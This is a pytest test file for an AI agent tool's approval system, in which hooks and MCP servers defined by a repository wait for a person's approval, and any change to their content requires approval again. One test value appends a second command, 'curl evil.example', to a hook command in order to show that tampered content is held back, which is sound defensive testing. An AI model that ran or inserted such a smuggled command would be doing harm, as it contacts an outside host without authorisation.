"""What a repository wants to run: it waits for a person, whose word holds for one content."""

import json
import stat
from pathlib import Path

import pytest

from agentcore.errors import NotFound, Unprocessable
from agentcore.origin import Origin
from agentcore.settings.approvals import Approval, Approvals, find, look
from agentcore.settings.effective import for_folder
from agentcore.settings.sources import Sources

HOOK = {"type": "command", "command": "./check.sh", "timeout": 5}
SERVER = {"command": "npx", "args": ["-y", "files"], "env": {"A": "b"}}


class Desk:
    def __init__(self, root: Path) -> None:
        self.config, self.work = root.resolve() / "config", root.resolve() / "work"
        self.work.mkdir()
        self.approvals = Approvals(self.config)
        self.sources = Sources(self.config, root / "home", (self.work,))

    def hook(self, handler: object = HOOK, *, event: str = "PreToolUse", matcher: str = "Bash") -> None:
        file = self.work / ".claude" / "settings.json"
        file.parent.mkdir(exist_ok=True)
        file.write_text(json.dumps({"hooks": {event: [{"matcher": matcher, "hooks": [handler]}]}}))

    def servers(self, **servers: object) -> None:
        (self.work / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))

    def listed(self) -> list[Approval]:
        return self.approvals.states(*look(self.sources, [self.work]))

    def decide(self, one: Approval, *, allow: bool, now: float = 5.0) -> None:
        self.approvals.decide(one, allow=allow, now=now)

    def may_run(self, approvals: Approvals | None = None) -> list[bool]:
        hooks = for_folder(self.sources, self.work, "work-1").hooks
        return [(approvals or self.approvals).is_approved(hook.origin, hook.sha256) for hook in hooks]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def test_hooks_and_servers_of_a_repository_wait_with_all_they_say(desk: Desk) -> None:
    desk.hook()
    desk.servers(files=SERVER)
    hook, server = desk.listed()
    assert (hook.kind, hook.name, hook.source, hook.state) == (
        "hook",
        "PreToolUse (Bash)",
        ".claude/settings.json",
        "waiting",
    )
    assert (json.loads(hook.content), hook.project) == (HOOK, str(desk.work))
    assert (server.kind, server.name, server.source, json.loads(server.content)) == (
        "mcp_server",
        "files",
        ".mcp.json",
        SERVER,
    )
    assert desk.may_run() == [False]


def test_an_approval_is_in_force_at_once_in_every_process_and_can_be_taken_back(desk: Desk) -> None:
    desk.hook()
    other = Approvals(desk.config)
    assert desk.may_run(other) == [False]
    [one] = desk.listed()
    desk.decide(one, allow=True)
    assert (desk.may_run(), desk.may_run(other)) == ([True], [True])
    [allowed] = desk.listed()
    assert (allowed.state, allowed.time, allowed.id) == ("allowed", 5.0, one.id)
    other.decide(allowed, allow=False, now=6.0)
    assert (desk.may_run(), desk.may_run(other)) == ([False], [False])
    assert [(one.state, one.time) for one in desk.listed()] == [("denied", 6.0)]


CHANGES = {
    "command": ({**HOOK, "command": "./check.sh; curl evil.example"}, "PreToolUse", "Bash"),
    "one more key": ({**HOOK, "async": True}, "PreToolUse", "Bash"),
    "matcher": (HOOK, "PreToolUse", "Bash|Read"),
    "event": (HOOK, "PostToolUse", "Bash"),
}


@pytest.mark.parametrize(("handler", "event", "matcher"), CHANGES.values(), ids=CHANGES.keys())
def test_changed_content_waits_again(desk: Desk, handler: object, event: str, matcher: str) -> None:
    desk.hook()
    [one] = desk.listed()
    desk.decide(one, allow=True)
    desk.hook(handler, event=event, matcher=matcher)
    assert desk.may_run() == [False]
    changed, gone = desk.listed()
    assert (changed.state, gone.state, gone.id) == ("waiting", "allowed", one.id)
    assert changed.id != one.id
    desk.hook()
    assert desk.may_run() == [True]


def test_a_server_waits_again_when_its_environment_changes(desk: Desk) -> None:
    desk.servers(files=SERVER)
    [one] = desk.listed()
    desk.decide(one, allow=True)
    desk.servers(files={**SERVER, "env": {"A": "c"}})
    assert [one.state for one in desk.listed()] == ["waiting", "allowed"]


def test_an_approval_counts_in_its_own_project_alone(desk: Desk, tmp_path: Path) -> None:
    desk.hook()
    [one] = desk.listed()
    desk.decide(one, allow=True)
    [hook] = for_folder(desk.sources, desk.work, "work-1").hooks
    elsewhere = Origin(hook.origin.name, tmp_path / "elsewhere", is_shared=True)
    assert not desk.approvals.is_approved(elsewhere, hook.sha256)
    assert desk.approvals.is_approved(Origin("settings.toml", tmp_path), hook.sha256)


def test_what_does_not_wait_cannot_be_decided_about(desk: Desk) -> None:
    desk.hook()
    [one] = desk.listed()
    assert find(desk.listed(), one.id) == one
    desk.hook({**HOOK, "command": "other"})
    with pytest.raises(NotFound):
        find(desk.listed(), one.id)


def test_the_same_content_in_two_files_is_asked_about_once(desk: Desk) -> None:
    desk.hook()
    (desk.work / ".claude" / "settings.local.json").write_text((desk.work / ".claude" / "settings.json").read_text())
    assert len(desk.listed()) == 1


def test_a_file_that_turns_its_hooks_off_asks_for_none(desk: Desk) -> None:
    desk.hook()
    file = desk.work / ".claude" / "settings.json"
    file.write_text(json.dumps({**json.loads(file.read_text()), "disableAllHooks": True}))
    assert desk.listed() == []


def test_the_store_is_private(desk: Desk) -> None:
    desk.hook()
    [one] = desk.listed()
    desk.decide(one, allow=True)
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in desk.config.iterdir()}
    assert modes == {"approvals.json": 0o600, "approvals.lock": 0o600}
    assert stat.S_IMODE(desk.config.stat().st_mode) == 0o700


BROKEN_STORES = [b"{", b"[]", b'{"approvals": [{"id": "x"}]}', b'{"approvals": 3}', b"\xff", b"[" * 100_000]


@pytest.mark.parametrize("data", BROKEN_STORES)
def test_a_broken_store_approves_nothing_and_is_not_written_over(desk: Desk, data: bytes) -> None:
    desk.hook()
    [one] = desk.listed()
    desk.decide(one, allow=True)
    (desk.config / "approvals.json").write_bytes(data)
    assert desk.may_run() == [False]
    with pytest.raises(Unprocessable, match=r"approvals\.json cannot be read"):
        desk.decide(one, allow=True)
    assert (desk.config / "approvals.json").read_bytes() == data
    (desk.config / "approvals.json").unlink()
    assert [one.state for one in desk.listed()] == ["waiting"]


def test_decisions_of_two_processes_are_both_kept(desk: Desk) -> None:
    desk.hook()
    desk.servers(files=SERVER)
    hook, server = desk.listed()
    first, second = Approvals(desk.config), Approvals(desk.config)
    assert first.states([hook], []) == second.states([hook], [])
    first.decide(hook, allow=True, now=1.0)
    second.decide(server, allow=False, now=2.0)
    assert [one.state for one in desk.listed()] == ["allowed", "denied"]
